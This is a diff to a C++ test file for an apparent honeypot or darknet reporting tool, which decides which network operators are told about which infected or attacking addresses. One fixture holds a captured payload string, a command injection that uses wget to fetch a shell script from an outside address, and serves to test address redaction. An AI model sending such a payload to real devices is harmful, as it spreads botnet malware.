@@ -35,7 +35,8 @@ TEST_F(ReportSelection, TheWholeHoldsEverything) {
 }
 
 TEST_F(ReportSelection, AnOperatorHearsOfItsOwnAddressesOnly) {
-  const auto telecom = select_for("example-telecom", day_, atlas_, "dark-1");
+  const auto telecom =
+      select_for("example-telecom", day_, shares_of(day_, atlas_), atlas_, "dark-1");
   EXPECT_THAT(addresses(telecom),
               ElementsAre("192.0.2.7", "192.0.2.9", "192.0.2.200", "2001:db8::5"));
   ASSERT_EQ(telecom.victims.size(), 1U);
@@ -49,7 +50,7 @@ TEST_F(ReportSelection, AnOperatorHearsOfItsOwnAddressesOnly) {
 }
 
 TEST_F(ReportSelection, ARangeWithinAnothersIsTheInnerOperators) {
-  EXPECT_THAT(addresses(select_for("campus", day_, atlas_, "dark-1")),
+  EXPECT_THAT(addresses(select_for("campus", day_, shares_of(day_, atlas_), atlas_, "dark-1")),
               ElementsAre("192.0.2.70", "198.51.100.4"));
 }
 
@@ -62,7 +63,7 @@ TEST_F(ReportSelection, DarkAddressesAreWithheldFromEverybody) {
 }
 
 TEST_F(ReportSelection, PayloadsLoseOthersAddresses) {
-  const auto campus = select_for("campus", day_, atlas_, "dark-1");
+  const auto campus = select_for("campus", day_, shares_of(day_, atlas_), atlas_, "dark-1");
   EXPECT_EQ(campus.novelties[1].payload, "GET /shell?wget+http://[address]/a.sh\\x0d\\x0a");
   const auto all = select_all(day_, atlas_, "dark-1");
   EXPECT_EQ(all.novelties[1].payload, "GET /shell?wget+http://203.0.113.66/a.sh\\x0d\\x0a");
@@ -73,10 +74,10 @@ TEST_F(ReportSelection, HoursWithoutARecordAreTold) {
 }
 
 TEST_F(ReportSelection, OnlyThoseWithSomethingToHearAreConcerned) {
-  EXPECT_THAT(concerned(day_, atlas_), ElementsAre("campus", "example-telecom"));
+  EXPECT_THAT(concerned(shares_of(day_, atlas_)), ElementsAre("campus", "example-telecom"));
   day_.victims.clear();
   day_.infected = {infected("203.0.113.5", "mirai", model::Standing::New)};
-  EXPECT_TRUE(concerned(day_, atlas_).empty());
+  EXPECT_TRUE(concerned(shares_of(day_, atlas_)).empty());
 }
 
 TEST_F(ReportSelection, TheRegisteredRangeIsThePoolOfItsSubscribers) {
